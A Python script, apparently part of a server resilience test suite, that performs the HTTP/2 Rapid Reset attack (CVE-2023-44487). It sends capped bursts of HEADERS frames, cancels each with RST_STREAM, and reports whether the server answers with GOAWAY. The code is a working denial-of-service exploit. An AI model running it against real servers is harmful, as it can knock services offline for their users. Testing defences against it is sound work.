"""Rapid reset (CVE-2023-44487): open a stream with HEADERS and cancel it at once with RST_STREAM,
over and over on one connection, without waiting for anything.

Prints one JSON object: the connection's fate (GOAWAY and its code, closed) and how many streams
were opened and cancelled before the server stopped listening.
"""

import argparse
import time

import h2peer


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--token", default=None)
    parser.add_argument("--path", default="/v1/rapid-reset")
    parser.add_argument("--streams", type=int, default=5000, help="hard cap on streams opened")
    parser.add_argument("--batch", type=int, default=50)
    parser.add_argument("--seconds", type=float, default=10.0, help="hard cap on the attack's duration")
    args = h2peer.arguments(parser)

    peer = h2peer.Peer(args.port)
    peer.start()
    headers = h2peer.request_headers(args.port, args.path, token=args.token)
    opened = 0
    stream_id = 1
    deadline = time.monotonic() + args.seconds
    while opened < args.streams and time.monotonic() < deadline:
        burst = []
        for _ in range(min(args.batch, args.streams - opened)):
            burst.append(peer.headers_frame(stream_id, headers, end_stream=True))
            burst.append(h2peer.rst_stream(stream_id, 8))  # CANCEL
            stream_id += 2
        if not peer.send(b"".join(burst)):
            break
        opened += len(burst) // 2
        if not peer.poll(0) or peer.goaway:
            break
    peer.finish(args.hold_file, 3.0, lambda: {
        "streams_opened": opened,
        "responses": len(peer.statuses),
        "rst_from_server": len(peer.rsts),
    })


if __name__ == "__main__":
    main()
